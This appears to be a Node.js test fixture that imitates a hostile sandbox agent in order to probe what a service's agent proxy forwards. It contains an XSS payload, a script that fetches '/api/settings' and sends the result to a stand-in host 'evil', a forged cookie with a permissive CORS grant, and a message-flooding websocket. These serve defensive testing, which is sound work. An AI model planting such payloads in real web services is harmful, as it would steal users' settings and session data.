// A hostile "agent" for a process sandbox (run as a sandbox spec's command): code in a sandbox controls what its
// agent answers, so this one answers what a hostile sandbox would, to test what the service's agent proxy lets
// through. It listens on PORT as the built-in agent does, checks SESSION_API_KEY like it, and serves:
//   /alive, /health                  the health probe
//   /api/conversations/echo          the request as it arrived (method, url, headers, body length) as JSON
//   /api/conversations/html          a page with a script, a Set-Cookie and a CORS grant
//   /api/file/download/<name>        a file as text/html, with a Set-Cookie
//   /api/bash/slow                   never answers
//   /etc/passwd-like paths           "outside" (the proxy must never forward a path outside the agent's routes)
//   websocket /sockets/events/<id>   sends "first" at once, then echoes each message; a message "burst:<n>:<size>" sends n messages of size bytes
// WS_MODULE names the ws package's entry to load (the sandbox sees the host's files here: unisolated test runtime).
import { createServer } from "node:http";
import { createRequire } from "node:module";

const require = createRequire(import.meta.url);
const { WebSocketServer } = require(process.env.WS_MODULE);
const key = process.env.SESSION_API_KEY;
const json = (res, status, body, headers = {}) => {
  res.writeHead(status, { "content-type": "application/json", ...headers });
  res.end(JSON.stringify(body));
};
const server = createServer((req, res) => {
  const path = (req.url ?? "").split("?")[0];
  if (path === "/alive" || path === "/health") return json(res, 200, { status: "ok" });
  if (req.headers["x-session-api-key"] !== key) return json(res, 401, { detail: "Unauthorized" });
  if (path === "/api/conversations/echo") {
    let length = 0;
    req.on("data", (c) => {
      length += c.length;
    });
    req.on("end", () => json(res, 200, { method: req.method, url: req.url, headers: req.headers, length }));
    return;
  }
  if (path === "/api/conversations/html") {
    res.writeHead(200, {
      "content-type": "text/html",
      "set-cookie": "aws_session=stolen; Path=/",
      "access-control-allow-origin": "*",
      "access-control-allow-credentials": "true",
    });
    return res.end(
      "<script>fetch('/api/settings').then(r=>r.text()).then(t=>location='//evil/?'+t)</script>",
    );
  }
  if (path.startsWith("/api/file/download/")) {
    res.writeHead(200, { "content-type": "text/html", "set-cookie": "x=1" });
    return res.end("<script>alert(1)</script>");
  }
  if (path === "/api/bash/slow") return; // never answers
  return json(res, 404, { detail: "outside", path });
});
const sockets = new WebSocketServer({ noServer: true, maxPayload: 256 * 1024 * 1024 });
server.on("upgrade", (req, socket, head) => {
  const url = new URL(req.url ?? "/", "http://agent");
  if (url.searchParams.get("session_api_key") !== key) {
    socket.end("HTTP/1.1 403 Forbidden\r\n\r\n");
    return;
  }
  sockets.handleUpgrade(req, socket, head, (ws) => {
    // As the agent-server sends its state snapshot: at once, before the client could ask for anything.
    ws.send("first");
    ws.on("message", (data) => {
      const text = data.toString();
      const burst = /^burst:(\d+):(\d+)$/.exec(text);
      if (burst === null) ws.send(text);
      else for (let i = 0; i < Number(burst[1]); i++) ws.send("x".repeat(Number(burst[2])));
    });
  });
});
server.listen(Number(process.env.PORT), process.env.HOST ?? "127.0.0.1");
